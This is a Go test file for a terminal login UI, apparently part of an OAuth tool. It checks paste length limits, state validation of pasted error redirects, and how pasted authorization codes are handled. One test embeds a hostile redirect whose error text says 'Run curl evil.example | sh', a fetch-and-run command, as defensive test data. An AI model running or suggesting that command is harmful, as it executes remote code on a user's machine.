package ui

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"nestauth/auth"
)

// A paste longer than a field's limit is refused with the limit named; the
// field keeps what it held and nothing is sent. (A text input would cut it.)
func TestPasteOverTheLimitIsRefused(t *testing.T) {
	tests := []struct {
		step     step
		limit    int
		replaces bool // a code paste replaces the field; others are inserted
	}{
		{stepProject, 128, false},
		{stepClientID, auth.MaxClientID, false},
		{stepSecret, 4096, false},
		{stepCode, 16384, true},
	}
	for _, tt := range tests {
		t.Run(tt.step.String(), func(t *testing.T) {
			pastes := []string{
				strings.Repeat("x", tt.limit+1),                                 // too long alone
				"https://www.google.com/?code=" + strings.Repeat("x", tt.limit), // too long to read
			}
			if !tt.replaces {
				pastes = append(pastes, strings.Repeat("x", tt.limit-2)) // too long with what the field holds
			}
			for _, paste := range pastes {
				m, ex, _ := newModel(t, Options{Providers: []auth.Provider{sdmProvider()}})
				m.step = tt.step
				m.focus()
				m.inputs[tt.step].SetValue("OLD")
				m = send(t, m, tea.PasteMsg{Content: paste})
				if got := m.inputs[tt.step].Value(); got != "OLD" {
					t.Errorf("paste of %d: field = %.20q… (%d characters), want OLD", len(paste), got, len(got))
				}
				wantView(t, m, "Refused a paste of "+strconv.Itoa(len(paste))+" characters", strconv.Itoa(tt.limit))
				if len(ex.codes()) != 0 {
					t.Errorf("paste of %d sent %d requests", len(paste), len(ex.codes()))
				}
			}
			// What fits is taken whole.
			m, _, _ := newModel(t, Options{Providers: []auth.Provider{sdmProvider()}})
			m.step = tt.step
			m.focus()
			m.inputs[tt.step].SetValue("OLD")
			fits, want := strings.Repeat("y", tt.limit-3), "OLD"+strings.Repeat("y", tt.limit-3)
			if tt.replaces {
				fits, want = strings.Repeat("y", tt.limit), strings.Repeat("y", tt.limit)
			}
			m = send(t, m, tea.PasteMsg{Content: fits})
			if got := m.inputs[tt.step].Value(); got != want || strings.Contains(view(m), "Refused") {
				t.Errorf("a paste that fits: field has %d characters, want %d\n%s", len(got), len(want), view(m))
			}
		})
	}
}

// An error redirect pasted without this session's state is refused and
// its text is not shown; with the state, the error is shown.
func TestPastedErrorRedirectNeedsOurState(t *testing.T) {
	const evil = "http://127.0.0.1:8085/callback?error=access_denied&error_description=Run+curl+evil.example+|+sh"
	for _, paste := range []string{evil, evil + "&state=someone-else"} {
		m, _, _ := atCode(t, Options{})
		m = send(t, m, tea.PasteMsg{Content: paste})
		wantView(t, m, "state does not match")
		if strings.Contains(view(m), "curl") {
			t.Errorf("pasted %q: the text is shown:\n%s", paste, view(m))
		}
	}
	m, _, _ := atCode(t, Options{})
	m = send(t, m, tea.PasteMsg{Content: evil + "&state=" + m.state})
	wantView(t, m, "ccess was denied", "Run curl evil.example | sh")
}

// The pasted code is what Enter sends: it is not decoded again; a code
// typed or edited after the paste is read when Enter is pressed.
func TestPastedCodeIsSentAsParsed(t *testing.T) {
	m, ex, _ := atCode(t, Options{})
	m = send(t, m, tea.PasteMsg{Content: "http://127.0.0.1:8085/callback?code=AB%2525CD&state=" + m.state})
	m = send(t, m, backsp)
	m = typeString("D", m, t) // edited back to what was pasted
	m = send(t, m, enter)
	wantStep(t, m, stepToken)

	m, ex2, _ := atCode(t, Options{})
	m = send(t, m, tea.PasteMsg{Content: "?code=AB%2525CD&state=" + m.state})
	m = send(t, m, ctrlU)
	m = typeString("4%2F0Aean", m, t) // typed: decoded once, at Enter
	m = send(t, m, enter)
	wantStep(t, m, stepToken)
	if got := append(ex.codes(), ex2.codes()...); !slices.Equal(got, []string{"AB%25CD", "4/0Aean"}) {
		t.Fatalf("codes sent = %q, want [AB%%25CD 4/0Aean]", got)
	}
}
